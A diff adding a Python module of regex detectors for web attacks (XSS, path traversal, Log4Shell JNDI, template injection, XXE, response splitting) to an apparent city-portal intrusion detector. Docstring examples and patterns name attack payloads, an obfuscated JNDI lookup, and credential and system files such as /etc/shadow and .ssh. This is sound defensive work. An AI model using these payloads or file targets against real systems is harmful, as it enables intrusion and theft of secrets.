@@ -1,0 +1,260 @@
+"""Confirming checks for each attack class, run only on candidate values.
+
+Each check takes a value already decoded and folded (lowercase, NFKC) and
+returns ``(rule key, matched text)`` or None. The patterns are linear: every
+repetition is bounded or possessive, and nothing repeats a group that can
+match the empty string, so a 100 kB value costs what its length costs.
+
+>>> xss('"><img src=x onerror=alert(1)>')
+('xss.event-handler', '<img src=x onerror=')
+>>> jndi("${${lower:j}${::-n}di:ldap://x.example/a}")
+('jndi.obfuscated', '${${lower:j}${::-n}di:ldap://x.example/a}')
+"""
+
+from __future__ import annotations
+
+import re
+
+from citywatch.detect.portal.catalog import MAX_TRIES, Found
+
+_XSS = re.compile(
+    r"""
+    (?P<attribute_break>["'`][\s/;]*+on[a-z]{3,30}+\s*+=\s*+["'`]?[^"'`\s]{0,60}?[(`])
+    |(?P<js_uri>(?:java|vb|live)script\s*+:\s*+[\w$.\[\]'"]{1,60}\s*+[(`=])
+    |(?P<dangerous_tag><(?:iframe|frame|object|embed|applet|meta|base|isindex|svg|math|xss)[\s/>])
+    |(?P<js_call>(?:^|[;'"`(){}=+\-|&>])\s*+(?:alert|prompt|confirm|eval|settimeout|setinterval)
+        \s*+[(`]|document\s*+\.\s*+(?:cookie|domain|write)\b|string\.fromcharcode\s*+\()
+    |(?P<css_expression>expression\s*+\(|-moz-binding\s*+:|behavior\s*+:\s*+url)
+    |(?P<data_uri>data:\s*+(?:text/html|image/svg\+xml|application/xhtml\+xml|text/xml)\s*+[;,])
+    """,
+    re.VERBOSE,
+)
+_SCRIPT_OPEN = re.compile(r"<script\b")
+_SCRIPT_SRC = re.compile(r"\bsrc\s*+=")
+_SCRIPT_CODE = re.compile(
+    r"\s*+(?:[\w$.\[\]'\"]{1,80}\s*+[(`=]|(?:var|let|const|function|new|if|for|while|try|import"
+    r"|async|await|throw|with|do)\b|/[/*])"
+)
+_SCRIPT_CLOSE = re.compile(r"</script")
+_HANDLER = re.compile(r"[\s/\"'\x00;]on[a-z]{3,30}+\s*+=")
+_TAG_START = frozenset("abcdefghijklmnopqrstuvwxyz!/")
+_CONTROL = str.maketrans("", "", "\t\n\r\x00")
+
+
+def xss(text: str) -> Found | None:
+    """Script injection into HTML: tags, handlers, ``javascript:`` URIs, script calls."""
+    if "\t" in text or "\n" in text or "\r" in text or "\x00" in text:
+        text = text.translate(_CONTROL)  # java\tscript:, <scr\x00ipt>
+    if "<" in text:
+        found = _script_tag(text) or _event_handler(text)
+        if found is not None:
+            return found
+    match = _XSS.search(text)
+    if match is None:
+        return None
+    return f"xss.{match.lastgroup or ''}".replace("_", "-"), match.group()
+
+
+def _script_tag(text: str) -> Found | None:
+    """``<script>`` with code right after it, a ``src`` or a closing tag: not the word in prose."""
+    for count, match in enumerate(_SCRIPT_OPEN.finditer(text)):
+        start = match.start()
+        close = text.find(">", start, start + 200)
+        if close >= 0:
+            if _SCRIPT_SRC.search(text, start, close):
+                return "xss.script-tag", text[start : close + 1]
+            if _SCRIPT_CODE.match(text, close + 1) or _SCRIPT_CLOSE.search(
+                text, close + 1, close + 401
+            ):
+                return "xss.script-tag", text[start : close + 60]
+        if count >= MAX_TRIES:
+            break
+    return None
+
+
+def _event_handler(text: str) -> Found | None:
+    """An ``on...=`` attribute inside an open tag (``<img src=x onerror=``)."""
+    for count, match in enumerate(_HANDLER.finditer(text)):
+        at = match.start()
+        open_ = text.rfind("<", max(0, at - 300), at)
+        if (
+            open_ >= 0
+            and text[open_ + 1 : open_ + 2] in _TAG_START
+            and text.find(">", open_, at) < 0
+        ):
+            return "xss.event-handler", text[open_ : match.end()]
+        if count >= MAX_TRIES:
+            break
+    return None
+
+
+_TRAVERSAL_TARGET = re.compile(
+    r"(?:etc/(?:passwd|shadow|group|hosts|issue|crontab|sudoers)|windows/|winnt/|boot\.ini|win\.ini"
+    r"|proc/(?:self|\d{1,7})/|\.env\b|web-inf/|meta-inf/|\.git/|\.ssh/|\.aws/|wp-config|"
+    r"config\.php|web\.config|\.htpasswd|/var/log/)"
+)
+_SENSITIVE_FILE = re.compile(
+    r"(?:^|[\s=:'\"(\x00,;]|file:/{0,3})(?:/etc/(?:passwd|shadow|group|hosts|issue|crontab|sudoers"
+    r"|master\.passwd)\b|/proc/(?:self|\d{1,7})/(?:environ|cmdline|maps|fd|status|mem)\b"
+    r"|/var/log/[\w.-]{1,64}|/root/\.|/home/[\w.-]{1,64}/\.(?:ssh|bash_history|aws)"
+    r"|[a-z]:/(?:windows|winnt|boot\.ini|inetpub)\b)"
+)
+
+
+def traversal(text: str) -> Found | None:
+    """``../`` sequences, ``php://filter`` streams, ``file://`` and absolute system files."""
+    if "\\" in text:
+        text = text.replace("\\", "/")
+    at = text.find("../")
+    semi = text.find("..;/")
+    if semi >= 0:
+        return "traversal.dotdot", text[semi : semi + 60]
+    if at >= 0:
+        if text.find("../", at + 3) >= 0:
+            return "traversal.dotdot", text[at : at + 80]
+        target = _TRAVERSAL_TARGET.search(text, at, at + 200)
+        if target is not None:
+            return "traversal.target", text[at : target.end()]
+    if "php://" in text:
+        i = text.find("php://")
+        if text.startswith(("filter", "fd", "memory", "temp"), i + 6):
+            return "traversal.php-filter", text[i : i + 60]
+    match = _SENSITIVE_FILE.search(text)
+    if match is not None:
+        return "traversal.sensitive-file", match.group().lstrip("\"'=:(, ;\x00\t\n")
+    if "file://" in text:
+        i = text.find("file://")
+        return "traversal.file-uri", text[i : i + 60]
+    if at >= 0:
+        return "traversal.single", text[max(0, at - 20) : at + 40]
+    return None
+
+
+_JNDI = re.compile(r"\$\{\s*+j\s*+n\s*+d\s*+i\s*+:")
+_INNER_LOOKUP = re.compile(r"\$\{([^${}]{0,100}+)\}")
+_LOG4J_LOOKUP = re.compile(
+    r"\$\{(?:env|sys|java|ctx|main|jvmrunargs|bundle|k8s|docker|spring|log4j|marker|sd|web|"
+    r"base64|event|hostname|lower|upper|date|::-)[:}]"
+)
+
+
+def _resolve(match: re.Match[str]) -> str:
+    inner = match.group(1)
+    if ":-" in inner:
+        return inner.split(":-", 1)[1]
+    if inner.startswith(("lower:", "upper:")):
+        return inner[6:]
+    if inner.startswith("date:"):
+        return inner[5:].strip("'\"")
+    return ""
+
+
+def jndi(text: str) -> Found | None:
+    """Log4Shell: ``${jndi:...}``, its nested obfuscations, and other Log4j lookups."""
+    start = text.find("${")
+    if start < 0:
+        return None
+    snippet = text[start : start + 120]
+    if _JNDI.search(text):
+        return "jndi.lookup", snippet
+    resolved = text
+    for _ in range(8):
+        step = _INNER_LOOKUP.sub(_resolve, resolved)
+        if step == resolved:
+            break
+        if _JNDI.search(step) or "jndi:" in step:
+            return "jndi.obfuscated", snippet
+        resolved = step
+    if _LOG4J_LOOKUP.search(text):
+        return "jndi.exfil", snippet
+    return None
+
+
+_SSTI = re.compile(
+    r"""
+    (?P<arithmetic>(?:\{\{|\$\{|\#\{|\*\{|@\(|\{%=?|<%=|\[\[)\s*+['"]?\d{1,10}['"]?\s*+[*+/-]\s*+
+        ['"]?\d{1,10}['"]?\s*+(?:\}\}|\}|\)|%\}|%>|\]\]))
+    |(?P<dunder>(?:\.|\[["'])__(?:class|mro|subclasses|globals|builtins|import|init|base|bases
+        |getattribute|reduce|code|dict)__|__(?:subclasses|globals|builtins|mro)__|__import__\s*+\()
+    |(?P<java_el>\bt\s*+\(\s*+java\.|java\.lang\.(?:runtime|processbuilder|system)
+        |freemarker\.template\.utility|<\#assign\b|\#set\s*+\(\s*+\$|\.getclass\s*+\(\s*+\)
+        |\.forname\s*+\()
+    |(?P<block>\{%\s*+(?:import|include|extends|from|macro|call|debug)\b)
+    |(?P<code><%=?\s*+(?:system|exec|eval|`|%x|io\.popen|file\.read)|\{/?php\}
+        |\{(?:system|exec|passthru|shell_exec|eval)\s*+\(|@\(\s*+system\.diagnostics
+        |system\.diagnostics\.process\.start\s*+\()
+    |(?P<probe>\$\{\{<%\[%|\{\{<%\[%|<%\[%'"\}\}%|\$\{\{\s*+<%)
+    """,
+    re.VERBOSE,
+)
+_JINJA_OBJECTS = re.compile(
+    r"\b(?:config|self|request|lipsum|cycler|joiner|namespace|url_for|get_flashed_messages"
+    r"|constructor|_self|app|system|exec|passthru|popen|shell_exec|attr|getattr)\b"
+)
+_EL_CODE = re.compile(r"runtime|exec\s*+\(|getclass|forname|processbuilder")
+
+
+def ssti(text: str) -> Found | None:
+    """Server-side template injection: expression probes, object walks, EL gadgets."""
+    match = _SSTI.search(text)
+    if match is not None:
+        return f"ssti.{match.lastgroup or ''}".replace("_", "-"), match.group()
+    found = _inside(text, "{{", "}}", 400, _JINJA_OBJECTS)
+    if found is not None:
+        return "ssti.object", found
+    found = _inside(text, "${", "}", 100, _EL_CODE)
+    return None if found is None else ("ssti.code", found)
+
+
+def _inside(text: str, open_: str, close: str, span: int, pattern: re.Pattern[str]) -> str | None:
+    """The first ``open_ ... close`` (at most ``span`` apart) whose inside ``pattern`` matches."""
+    at = text.find(open_)
+    for _ in range(MAX_TRIES):
+        if at < 0:
+            return None
+        end = text.find(close, at + len(open_), at + span)
+        if end >= 0 and pattern.search(text, at + len(open_), end):
+            return text[at : end + len(close)]
+        at = text.find(open_, at + len(open_))
+    return None
+
+
+_XXE = re.compile(
+    r"""
+    (?P<external_entity><!entity\s++%?\s*+[\w.:-]{1,100}+\s++(?:system|public)\b)
+    |(?P<parameter_entity><!entity\s++%\s)
+    |(?P<xinclude><xi:include\b|xmlns:xi\s*+=)
+    |(?P<external_dtd><!doctype\s++[\w.:-]{1,100}+\s++(?:system\s++|public\s++["'][^"']{0,300}+
+        ["']\s*+)["'](?!https?://www\.w3\.org/)[^"']{0,300}?(?:://|file:))
+    |(?P<expansion><!entity\s++[\w.:-]{1,100}+\s++["'](?:[^"'&]{0,100}+&[\w.:-]{1,100}+;){3})
+    """,
+    re.VERBOSE,
+)
+
+
+def xxe(text: str) -> Found | None:
+    """XML external entities, XInclude, external DTDs and entity expansion."""
+    match = _XXE.search(text)
+    if match is None:
+        return None
+    name = (match.lastgroup or "").replace("_", "-")
+    return ("xxe.expansion" if name == "expansion" else f"xxe.{name}"), match.group()
+
+
+_SPLITTING = re.compile(
+    r"[\r\n][ \t]{0,16}+(?:set-cookie|content-length|content-type|content-security-policy|refresh"
+    r"|access-control-allow-[\w-]{1,20}|x-xss-protection|location\s*+:\s*+(?:https?:)?//"
+    r"|http/1\.[01]\s++\d{3})\s*+[:\s]"
+)
+
+
+def response_splitting(text: str) -> Found | None:
+    """CR/LF then a response header in a value: HTTP response splitting, header injection.
+
+    >>> response_splitting("en\\r\\nset-cookie: aldsid=attacker")[0]
+    'protocol.response-splitting'
+    >>> response_splitting("Dear city,\\r\\nLocation: Ilica 12, by the tram stop") is None
+    True
+    """
+    match = _SPLITTING.search(text)
+    return None if match is None else ("protocol.response-splitting", text[: match.end() + 40])
